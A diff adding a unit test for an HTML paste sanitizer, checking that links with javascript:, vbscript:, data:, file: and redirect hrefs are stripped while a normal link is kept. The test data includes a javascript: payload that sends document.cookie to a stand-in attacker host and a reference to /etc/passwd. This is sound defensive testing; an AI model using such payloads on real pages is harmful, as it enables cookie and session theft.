@@ -43,6 +43,23 @@ describe('sanitizePaste', () => {
     expect(root.textContent).toBe('web mail js js2 data rel');
   });
 
+  it('unlinks hostile links that carry a web or mail address inside them', () => {
+    const hostile = [
+      "javascript:fetch('https://evil.example/steal?c='+document.cookie)",
+      'JavaScript:location="https://evil.example"',
+      'data:text/html,<a href="https://evil.example">x</a>',
+      'vbscript:msgbox("http://evil.example")',
+      "javascript:void('mailto:me@example.com')",
+      'file:///etc/passwd#https://ok.example',
+      '/redirect?to=https://evil.example',
+    ];
+    const html = `<p>${hostile.map((href, i) => `<a href='${href.replace(/'/g, '&#39;')}'>bad${i}</a> `).join('')}<a href="https://ok.example/b">good</a></p>`;
+    const root = parse(sanitizePaste(html));
+    expect(Array.from(root.querySelectorAll('a')).map((a) => [a.textContent, a.getAttribute('href')])).toEqual([['good', 'https://ok.example/b']]);
+    expect(root.textContent).toBe(`${hostile.map((_, i) => `bad${i} `).join('')}good`);
+    expect(root.innerHTML).not.toMatch(/javascript|vbscript|data:|file:/i);
+  });
+
   it('keeps the supported structure and inline formats', () => {
     const html =
       '<h1>A</h1><h2>B</h2><h3>C</h3><p>x<br>y <b>b</b> <strong>s</strong> <i>i</i> <em>e</em> <u>u</u> <s>s</s> <code>c</code></p>' +
